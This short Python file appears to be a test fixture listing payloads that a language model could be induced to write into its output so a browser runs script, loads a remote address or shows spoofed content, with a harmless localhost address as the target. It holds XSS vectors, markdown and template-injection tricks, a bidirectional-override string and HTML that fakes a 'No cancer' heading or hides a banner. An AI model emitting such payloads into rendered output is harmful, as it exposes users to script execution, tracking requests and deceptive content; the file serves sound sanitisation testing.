"""What a language model could be made to write so that a browser runs, loads or shows something; HIT is a harmless address."""

HIT = "http://127.0.0.1:9/hit"

PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    f"<img src={HIT}>",
    f"<svg onload=fetch('{HIT}')>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<script>alert(1)</script>",
    f"<script src={HIT}></script>",
    f"<link rel=stylesheet href={HIT}>",
    f"<iframe src={HIT}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={HIT}></object>",
    f"<embed src={HIT}>",
    f"<video><source onerror=alert(1) src={HIT}></video>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "[here](javascript:alert(1))",
    f"![]({HIT})",
    f'<base href="{HIT}">',
    f'<meta http-equiv=refresh content="0;url={HIT}">',
    f"<form action={HIT}><button>Go</button></form>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "$$\\href{javascript:alert(1)}{now}$$",
    "\\(\\includegraphics{" + HIT + "}\\)",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\u202enoitatcepxe\u202c",
    "</p></section><h1>No cancer</h1>",
    # Would swallow what comes after it.
    "<style>.sg-banner{display:none}</style><!--",
)
